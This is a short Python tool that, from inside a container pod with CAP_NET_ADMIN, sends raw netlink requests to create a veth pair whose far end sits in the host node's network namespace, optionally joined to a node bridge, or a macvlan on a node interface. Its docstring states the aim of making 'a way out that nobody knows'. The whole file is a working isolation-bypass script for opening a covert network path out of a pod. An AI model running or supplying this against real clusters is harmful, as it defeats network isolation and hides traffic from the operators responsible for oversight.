#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Inside a pod, with CAP_NET_ADMIN in the node's user namespace and nothing else: makes a way out that nobody knows.

  second_way.py NAME INSIDE MASTER     an interface of the node
  second_way.py macvlan INSIDE LOWER   none: one of the pod's, on top of the node's interface with the number LOWER

A pair of veths, of which one comes to be on the node, under that name, up, and a port of the bridge with the number
MASTER (0: of none): the node's namespace has an id in the pod's (0, as the first that a link of the pod leads to), and
by that id the kernel lets it be the target. INSIDE is the other one's name, in the pod.
"""

import os
import socket
import struct
import sys

RTM_NEWLINK = 16
NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE = 1, 4, 0x200, 0x400
IFLA_IFNAME, IFLA_LINK, IFLA_MASTER, IFLA_LINKINFO, IFLA_LINK_NETNSID, IFLA_TARGET_NETNSID = 3, 5, 10, 18, 37, 46
IFLA_INFO_KIND, IFLA_INFO_DATA, VETH_INFO_PEER = 1, 2, 1
IFF_UP = 1
NODE = 0


def attribute(kind, data):
    return struct.pack("=HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)


def number(kind, value):
    return attribute(kind, struct.pack("=I", value))


def name(text):
    return attribute(IFLA_IFNAME, text.encode() + b"\0")


def header(flags=0):
    return struct.pack("=BxHiII", socket.AF_UNSPEC, 0, 0, flags, flags)


def request(body):
    flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
    return struct.pack("=IHHII", 16 + len(body), RTM_NEWLINK, flags, 1, 0) + body


def new_macvlan(inside, lower):
    info = attribute(IFLA_INFO_KIND, b"macvlan\0")
    return request(header() + name(inside) + number(IFLA_LINK, lower) + number(IFLA_LINK_NETNSID, NODE) +
                   attribute(IFLA_LINKINFO, info))


def new_link(outside, inside, master):
    data = attribute(VETH_INFO_PEER, header() + name(inside))
    info = attribute(IFLA_INFO_KIND, b"veth\0") + attribute(IFLA_INFO_DATA, data)
    body = header(IFF_UP) + name(outside) + number(IFLA_TARGET_NETNSID, NODE)
    if master:
        body += number(IFLA_MASTER, master)
    return request(body + attribute(IFLA_LINKINFO, info))


def main(outside, inside, master):
    route = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    route.bind((0, 0))
    route.send(new_macvlan(inside, int(master)) if outside == "macvlan" else new_link(outside, inside, int(master)))
    error = -struct.unpack_from("=i", route.recv(65536), 16)[0]
    if error:
        sys.exit(f"the kernel refuses: {os.strerror(error)}")


if __name__ == "__main__":
    main(*sys.argv[1:])
